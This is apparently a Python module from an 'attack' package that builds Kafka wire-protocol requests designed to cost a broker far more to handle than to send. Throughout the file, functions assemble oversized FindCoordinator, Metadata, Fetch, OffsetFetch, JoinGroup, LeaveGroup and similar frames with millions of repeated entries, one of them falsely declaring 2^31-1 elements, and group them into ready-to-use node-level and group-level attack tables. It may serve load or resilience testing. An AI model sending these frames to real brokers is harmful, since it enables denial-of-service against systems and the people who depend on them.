"""Frames that cost a server more than their sender. `scale` 1 is the size that hurts."""

from __future__ import annotations

import string
import struct
from collections.abc import Callable

from attack.wire import header, text, uvarint

_LETTERS = (string.ascii_letters + string.digits).encode()
# FindCoordinator v4 of one group, that says it is 2^31 - 1 of them: 29 bytes with the length.
LYING_COUNT = header(10, 4, flexible=True) + b"\0" + b"\xff\xff\xff\xff\x0f" + b"\0" * 7


def _name(number: int) -> bytes:
    """Four letters, others for each number."""
    return bytes(_LETTERS[number // 62**place % 62] for place in range(4))


def _many(count: int, item: Callable[[int], bytes]) -> bytes:
    return b"".join(map(item, range(count)))


def _int32(value: int) -> bytes:
    return struct.pack(">i", value)


def find_coordinator(scale: float) -> bytes:
    """v4: a million keys of one byte."""
    count = int(1_000_000 * scale)
    return header(10, 4, flexible=True) + b"\0" + uvarint(count + 1) + b"\2k" * count + b"\0"


def metadata(scale: float) -> bytes:
    """v9: 340,000 names that no topic has."""
    count = int(340_000 * scale)
    names = _many(count, lambda i: b"\5" + _name(i) + b"\0")
    return header(3, 9, flexible=True) + uvarint(count + 1) + names + b"\1\0\0\0"


def metadata_below_the_bound(scale: float) -> bytes:
    """v9: as many names as are looked at."""
    return metadata(scale * 249_000 / 340_000)


def find_coordinator_below_the_bound(scale: float) -> bytes:
    """v4: as many keys as are looked at."""
    return find_coordinator(scale * 249_000 / 1_000_000)


def create_partitions(scale: float) -> bytes:
    """v1: one topic with 249,000 replicas, which it does not get."""
    count = int(249_000 * scale)
    topic = text("orders") + struct.pack(">ii", 13, count) + bytes(4) * count
    return header(37, 1) + _int32(1) + topic + _int32(1000) + b"\0"


def describe_configs(scale: float) -> bytes:
    """v1: 170,000 brokers."""
    count = int(170_000 * scale)
    names = _many(count, lambda i: b"\2\0\4" + _name(i) + b"\xff\xff\xff\xff")
    return header(32, 1) + _int32(count) + names + b"\0"


def delete_topics(scale: float) -> bytes:
    """v1: 340,000 names that no topic has."""
    count = int(340_000 * scale)
    return header(20, 1) + _int32(count) + _many(count, lambda i: b"\0\4" + _name(i)) + _int32(1000)


def create_topics(scale: float) -> bytes:
    """v2: 80,000 topics of one partition."""
    count = int(80_000 * scale)
    rest = struct.pack(">ihii", 1, 1, 0, 0)
    topics = _many(count, lambda i: b"\0\4" + _name(i) + rest)
    return header(19, 2) + _int32(count) + topics + _int32(1000) + b"\0"


def list_offsets(scale: float) -> bytes:
    """v1: one partition 170,000 times."""
    count = int(170_000 * scale)
    body = _int32(-1) + _int32(1) + text("orders") + _int32(count)
    return header(2, 1) + body + struct.pack(">iq", 0, -1) * count


def fetch(scale: float) -> bytes:
    """v4: one partition 120,000 times."""
    count = int(120_000 * scale)
    body = struct.pack(">iiiib", -1, 0, 1, 1000, 0) + _int32(1) + text("orders") + _int32(count)
    return header(1, 4) + body + struct.pack(">iqi", 0, 0, 1000) * count


def describe_groups(group_id: str, times: int) -> bytes:
    """v5: the same group many times."""
    names = (uvarint(len(group_id) + 1) + group_id.encode()) * times
    return header(15, 5, flexible=True) + uvarint(times + 1) + names + b"\0\0"


def fetch_one_partition(scale: float) -> bytes:
    """OffsetFetch v7: one partition of the group `fat` 400,000 times."""
    count = int(400_000 * scale)
    topic = b"\7orders" + uvarint(count + 1) + b"\0\0\0\0" * count + b"\0"
    return header(9, 7, flexible=True) + b"\4fat" + b"\2" + topic + b"\0\0"


def fetch_one_group(scale: float) -> bytes:
    """OffsetFetch v8: all offsets of the group `fat` 100,000 times."""
    count = int(100_000 * scale)
    groups = b"\4fat\0\0" * count
    return header(9, 8, flexible=True) + uvarint(count + 1) + groups + b"\0\0"


def leave_group(scale: float) -> bytes:
    """v3: five million members."""
    count = int(5_000_000 * scale)
    return header(13, 3) + text("g") + _int32(count) + b"\0\1m\xff\xff" * count


def commit_offsets(scale: float) -> bytes:
    """v2: one partition three million times."""
    count = int(3_000_000 * scale)
    body = text("g") + _int32(-1) + text("") + struct.pack(">qi", -1, 1) + text("orders")
    return header(8, 2) + body + _int32(count) + struct.pack(">iqh", 0, 1, -1) * count


def describe_no_groups(scale: float) -> bytes:
    """v0: eight million empty names."""
    count = int(8_000_000 * scale)
    return header(15, 0) + _int32(count) + b"\0\0" * count


def delete_groups(scale: float) -> bytes:
    """v0: four million groups that do not exist."""
    count = int(4_000_000 * scale)
    names = _many(count, lambda i: b"\0\4" + struct.pack(">I", i & 0x7F7F7F7F))
    return header(42, 0) + _int32(count) + names


def sync_group(scale: float) -> bytes:
    """v0: five million assignments."""
    count = int(5_000_000 * scale)
    body = text("g") + _int32(1) + text("") + _int32(count)
    return header(14, 0) + body + b"\0\1m\0\0\0\0" * count


def join_group(scale: float) -> bytes:
    """v2: five million protocols of one name."""
    count = int(5_000_000 * scale)
    body = text("j") + struct.pack(">ii", 30_000, 30_000) + text("") + text("c") + _int32(count)
    return header(11, 2) + body + b"\0\1m\0\0\0\0" * count


def fetch_many_groups(scale: float) -> bytes:
    """OffsetFetch v8: two million groups that do not exist."""
    count = int(2_000_000 * scale)
    return header(9, 8, flexible=True) + uvarint(count + 1) + b"\2g\1\0" * count + b"\0\0"


NODE_LEVEL: dict[str, Callable[[float], bytes]] = {
    "FindCoordinator, 1,000,000 keys": find_coordinator,
    "FindCoordinator, 249,000 keys": find_coordinator_below_the_bound,
    "Metadata, 340,000 names": metadata,
    "Metadata, 249,000 names": metadata_below_the_bound,
    "DescribeConfigs, 170,000 brokers": describe_configs,
    "DeleteTopics, 340,000 names": delete_topics,
    "CreateTopics, 80,000 topics": create_topics,
    "CreatePartitions, 249,000 replicas": create_partitions,
    "ListOffsets, 170,000 partitions": list_offsets,
    "Fetch, 120,000 partitions": fetch,
}
GROUP_LEVEL: dict[str, Callable[[float], bytes]] = {
    "LeaveGroup, 5,000,000 members": leave_group,
    "OffsetCommit, 3,000,000 partitions": commit_offsets,
    "DescribeGroups, 8,000,000 names": describe_no_groups,
    "DeleteGroups, 4,000,000 groups": delete_groups,
    "SyncGroup, 5,000,000 assignments": sync_group,
    "JoinGroup, 5,000,000 protocols": join_group,
    "OffsetFetch, 2,000,000 groups": fetch_many_groups,
}
